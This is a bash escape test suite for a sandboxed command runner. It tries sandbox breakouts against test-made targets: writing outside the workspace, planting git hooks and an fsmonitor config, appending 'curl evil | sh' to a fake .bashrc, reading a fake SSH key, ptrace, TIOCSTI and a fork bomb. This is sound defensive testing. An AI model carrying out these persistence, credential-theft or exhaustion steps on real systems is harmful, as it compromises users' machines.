#!/usr/bin/env bash
# The escape suite.  Each attempt runs twice through `gemmash exec`: under
# workspace-write with the network off it must FAIL, and the very same
# attempt under --dangerously-full-access must WORK, which proves the fence
# (not a broken command) stopped it.  Every target is something this test
# made: a fake HOME, a folder outside the workspace, its own listeners and
# its own sibling process.  Runs as root in CI, so every denial below comes
# from Landlock, seccomp or an rlimit, never from file permissions.
set -u
G=${GEMMASH_BIN:-./gemmash}
PY=${PYTHON:-/usr/bin/python3}
SRC=${GEMMASH_ROOT:-.}/tests/sandbox
T=$(mktemp -d /tmp/gemmash-escape.XXXXXX) || exit 1
pids=()
cleanup() {
    for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done
    umount "$T/mnt" 2>/dev/null
    rm -rf "$T"
}
trap cleanup EXIT
fails=0
table=()

ok()    { echo "ok - $*"; }
notok() { echo "not ok - $*"; fails=$((fails + 1)); }

W=$T/ws O=$T/outside H=$T/home
mkdir -p "$W/bin" "$O" "$H/.ssh" "$T/mnt"
echo "BEGIN FAKE KEY" > "$H/.ssh/id_rsa"
echo "# fake rc" > "$H/.bashrc"
cc -O1 -o "$W/bin/sbprobe" "$SRC/sbprobe.c" || { notok "compile sbprobe.c"; exit 1; }
P=$W/bin/sbprobe
export HOME=$H
git -C "$W" init -q && git -C "$W" -c user.name=t -c user.email=t@t commit -q --allow-empty -m base ||
    { notok "git init of the test workspace"; exit 1; }
cp "$W/.git/config" "$T/config.orig"

# listeners and a sibling, all ours
"$PY" -c '
import socket, sys, threading, os
t = socket.socket(); t.bind(("127.0.0.1", 0)); t.listen(8)
u = socket.socket(socket.AF_UNIX); u.bind(sys.argv[1]); u.listen(8)
open(sys.argv[2], "w").write(str(t.getsockname()[1]))
def serve(s):
    while True:
        c, _ = s.accept(); c.close()
threading.Thread(target=serve, args=(u,), daemon=True).start()
serve(t)' "$O/sock" "$T/port" &
pids+=($!)
sleep 30 & SIB=$!; pids+=($SIB)
for _ in $(seq 50); do [ -s "$T/port" ] && [ -S "$O/sock" ] && break; sleep 0.1; done
PORT=$(cat "$T/port" 2>/dev/null)
[ -n "$PORT" ] || { notok "test listeners did not start"; exit 1; }

# run LIMITS... -- CMD: one run; sets rc and out
fenced() { out=$("$G" exec --workspace "$W" "$@" 2>&1); rc=$?; }
full()   { out=$("$G" exec --dangerously-full-access --workspace "$W" "$@" 2>&1); rc=$?; }
# the unfenced twin: fence options (limits) before "--" are dropped, the command is the same
full_cmd() { while [ $# -gt 0 ] && [ "$1" != -- ]; do shift; done; full "$@"; }
first()  { printf '%s' "$1" | head -n 1 | cut -c1-40; }

# attempt NAME CHECK_BLOCKED CHECK_WORKED RESET [FENCE OPTIONS...] -- CMD...
# CHECK_*: shell snippets that must succeed after the fenced / full run.
attempt() {
    local name=$1 blocked=$2 worked=$3 reset=$4; shift 4
    fenced "$@"; local frc=$rc fout; fout=$(first "$out")
    local fok=0; [ "$frc" -ne 0 ] && eval "$blocked" && fok=1
    eval "$reset"
    full_cmd "$@"; local urc=$rc uout; uout=$(first "$out")
    local uok=0; [ "$urc" -eq 0 ] && eval "$worked" && uok=1
    eval "$reset"
    table+=("$(printf '%-30s | fenced: rc=%-3s %-40s | full: rc=%-3s %s' "$name" "$frc" "$fout" "$urc" "$uout")")
    if [ $fok = 1 ] && [ $uok = 1 ]; then ok "escape: $name is blocked by the fence and works unfenced"
    elif [ $fok = 0 ]; then notok "escape: $name was NOT blocked (rc=$frc: $fout)"
    else notok "escape: $name did not work unfenced, so the test proves nothing (rc=$urc: $uout)"; fi
}
# the guard attempts succeed at the kernel level and are undone afterwards: judge by the final state
attempt_state() {
    local name=$1 blocked=$2 worked=$3 reset=$4; shift 4
    fenced "$@"; local frc=$rc fout; fout=$(first "$out")
    local fok=0; eval "$blocked" && fok=1
    local hint=""; case $out in *restored*) hint="(restored by the guard)";; esac
    eval "$reset"
    full_cmd "$@"; local urc=$rc uout; uout=$(first "$out")
    local uok=0; [ "$urc" -eq 0 ] && eval "$worked" && uok=1
    eval "$reset"
    table+=("$(printf '%-30s | fenced: rc=%-3s %-40s | full: rc=%-3s %s' "$name" "$frc" "${hint:-$fout}" "$urc" "$uout")")
    if [ $fok = 1 ] && [ $uok = 1 ]; then ok "escape: $name is undone by the fence and works unfenced"
    elif [ $fok = 0 ]; then notok "escape: $name was NOT undone (rc=$frc: $fout)"
    else notok "escape: $name did not work unfenced (rc=$urc: $uout)"; fi
}

attempt "write outside the workspace" '[ ! -e $O/f1 ]' '[ -e $O/f1 ]' 'rm -f $O/f1' -- "$P" write "$O/f1"
ln -s "$O" "$W/lnk"
attempt "write through a symlink" '[ ! -e $O/f2 ]' '[ -e $O/f2 ]' 'rm -f $O/f2' -- "$P" write "$W/lnk/f2"
attempt "write via /proc/self/root" '[ ! -e $O/f3 ]' '[ -e $O/f3 ]' 'rm -f $O/f3' -- "$P" write "/proc/self/root$O/f3"
echo orig > "$O/victim"
attempt "hard link from outside" '[ ! -e $W/hl ]' '[ -e $W/hl ]' 'rm -f $W/hl' -- "$P" link "$O/victim" "$W/hl"
attempt "rename outside file in" '[ -e $O/victim ]' '[ -e $W/stolen ]' '[ -e $W/stolen ] && mv $W/stolen $O/victim' \
    -- "$P" rename "$O/victim" "$W/stolen"
echo x > "$W/plant"
attempt "rename a file out" '[ -e $W/plant ]' '[ -e $O/plant ]' '[ -e $O/plant ] && mv $O/plant $W/plant' \
    -- "$P" rename "$W/plant" "$O/plant"
attempt_state "write .git/hooks/pre-commit" '[ ! -e $W/.git/hooks/pre-commit ]' '[ -e $W/.git/hooks/pre-commit ]' \
    'rm -f $W/.git/hooks/pre-commit' -- "$P" write "$W/.git/hooks/pre-commit"
attempt_state "append to .git/config" 'cmp -s $W/.git/config $T/config.orig' '! cmp -s $W/.git/config $T/config.orig' \
    'cp $T/config.orig $W/.git/config' -- "$P" append "$W/.git/config" "[core]
	fsmonitor = $O/evil
"
attempt_state "create .git/commondir" '[ ! -e $W/.git/commondir ]' '[ -e $W/.git/commondir ]' 'rm -f $W/.git/commondir' \
    -- "$P" write "$W/.git/commondir"
attempt_state "create workspace .envrc" '[ ! -e $W/.envrc ]' '[ -e $W/.envrc ]' 'rm -f $W/.envrc' -- "$P" write "$W/.envrc"
# the same two without the namespace layer: the guard alone must undo them
export GEMMASH_SANDBOX_USERNS=0
attempt_state "hooks/pre-commit (guard only)" '[ ! -e $W/.git/hooks/pre-commit ]' '[ -e $W/.git/hooks/pre-commit ]' \
    'rm -f $W/.git/hooks/pre-commit' -- "$P" write "$W/.git/hooks/pre-commit"
attempt_state "append .git/config (guard only)" 'cmp -s $W/.git/config $T/config.orig' '! cmp -s $W/.git/config $T/config.orig' \
    'cp $T/config.orig $W/.git/config' -- "$P" append "$W/.git/config" "[core]
	fsmonitor = $O/evil
"
unset GEMMASH_SANDBOX_USERNS
attempt "append to ~/.bashrc" '[ "$(cat $H/.bashrc)" = "# fake rc" ]' '[ "$(cat $H/.bashrc)" != "# fake rc" ]' \
    'echo "# fake rc" > $H/.bashrc' -- "$P" append "$H/.bashrc" "curl evil | sh"
attempt "read ~/.ssh/id_rsa" 'true' 'true' ':' -- "$P" read "$H/.ssh/id_rsa"
attempt "tcp connect 127.0.0.1" 'true' 'true' ':' -- "$P" tcp "$PORT"
attempt "udp send 127.0.0.1" 'true' 'true' ':' -- "$P" udp "$PORT"
attempt "connect unix socket outside" 'true' 'true' ':' -- "$P" unix "$O/sock"
attempt "ptrace a sibling" 'true' 'true' ':' -- "$P" ptrace "$SIB"
attempt "signal a process outside" 'true' 'true' ':' -- "$P" signal "$SIB"
attempt "read a sibling's /proc/PID/environ" 'true' 'true' ':' -- "$P" read "/proc/$SIB/environ"
attempt "mknod a block device" '[ ! -e $W/disk ]' '[ -b $W/disk ]' 'rm -f $W/disk' \
    -- "$PY" -c 'import os, stat, sys; os.mknod(sys.argv[1], stat.S_IFBLK | 0o600, os.makedev(7, 0)); print("OK made")' "$W/disk"
attempt "io_uring_setup" 'true' 'true' ':' -- "$P" io_uring
attempt "mount a tmpfs" 'true' 'true' 'umount $T/mnt 2>/dev/null; true' -- "$P" mount "$T/mnt"
attempt "unshare a user namespace" 'true' 'true' ':' -- "$P" unshare
attempt "TIOCSTI on a terminal" 'true' 'true' ':' -- "$P" tiocsti
attempt "memory hog (limit 64M)" 'true' 'true' ':' --mem 64M -- "$P" memhog 256
attempt "cpu loop (limit 1 s)" '[ $frc -eq 152 ] || [ $frc -eq 137 ]' 'true' ':' --cpu 1 -- "$P" cpuloop 1.3
attempt "disk filler (limit 1M)" '[ $frc -eq 153 ] || [ $frc -eq 1 ]' 'true' 'rm -f $W/big' --fsize 1M -- "$P" diskfill "$W/big" 4

# fork bomb: the kernel exempts root from RLIMIT_NPROC, so run it as an unprivileged user
if [ "$(id -u)" -eq 0 ] && command -v setpriv >/dev/null; then
    N=$T/nobody; mkdir -p "$N/ws"; cp "$G" "$N/gemmash"; cp "$P" "$N/ws/sbprobe"
    chmod 755 "$T" "$N" "$N/ws" "$N/gemmash" "$N/ws/sbprobe"; chown 65534:65534 "$N/ws"
    as_nobody() { out=$(HOME=$N setpriv --reuid=65534 --regid=65534 --clear-groups "$N/gemmash" exec --workspace "$N/ws" "$@" 2>&1); rc=$?; }
else
    N=$T; cp "$P" "$W/sbprobe2"
    as_nobody() { out=$("$G" exec --workspace "$W" "$@" 2>&1); rc=$?; }
fi
SBP=$( [ "$(id -u)" -eq 0 ] && echo "$N/ws/sbprobe" || echo "$W/sbprobe2")
as_nobody --nproc 20 -- "$SBP" forkbomb 200; frc=$rc; fout=$(first "$out")
as_nobody --dangerously-full-access -- "$SBP" forkbomb 200; urc=$rc; uout=$(first "$out")
table+=("$(printf '%-30s | fenced: rc=%-3s %-40s | full: rc=%-3s %s' "fork bomb (nproc 20, non-root)" "$frc" "$fout" "$urc" "$uout")")
if [ "$frc" -ne 0 ] && [ "$urc" -eq 0 ]; then ok "escape: fork bomb is stopped by RLIMIT_NPROC and works unfenced"
else notok "escape: fork bomb: fenced rc=$frc ($fout), unlimited rc=$urc ($uout)"; fi

echo "# attempts (each must fail fenced and work with --dangerously-full-access):"
for line in "${table[@]}"; do echo "# $line"; done
exit $((fails > 0))
